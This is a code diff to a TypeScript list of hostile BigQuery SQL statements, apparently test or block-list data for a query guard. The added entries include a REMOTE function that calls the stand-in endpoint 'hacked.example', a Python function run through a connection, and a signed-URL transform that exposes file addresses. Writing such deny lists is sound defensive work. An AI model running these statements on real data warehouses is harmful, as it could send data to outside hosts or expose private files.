@@ -193,4 +193,19 @@ export const BIGQUERY_STATEMENTS: readonly HostileStatement[] = [
     sql: "SELECT * FROM ML.TRANSLATE(MODEL hacked, (SELECT 'x' AS text_content), STRUCT('translate_text' AS translate_mode))",
   },
   { harm: 'reach', attack: 'read a file', sql: 'SELECT * FROM ML.PROCESS_DOCUMENT(MODEL hacked, TABLE hacked.files)' },
+  {
+    harm: 'reach',
+    attack: 'function of this text in Python with a connection',
+    sql: "CREATE TEMP FUNCTION f(x INT64) RETURNS INT64 LANGUAGE python WITH CONNECTION `p.us.c` OPTIONS (entry_point = 'f') AS 'x'; SELECT f(1)",
+  },
+  {
+    harm: 'reach',
+    attack: 'function of this text that runs elsewhere',
+    sql: "CREATE TEMP FUNCTION f(x INT64) RETURNS INT64 REMOTE WITH CONNECTION `p.us.c` OPTIONS (endpoint = 'https://hacked.example'); SELECT f(1)",
+  },
+  {
+    harm: 'reach',
+    attack: 'addresses of files',
+    sql: "SELECT * FROM EXTERNAL_OBJECT_TRANSFORM(TABLE hacked, ['SIGNED_URL'])",
+  },
 ];
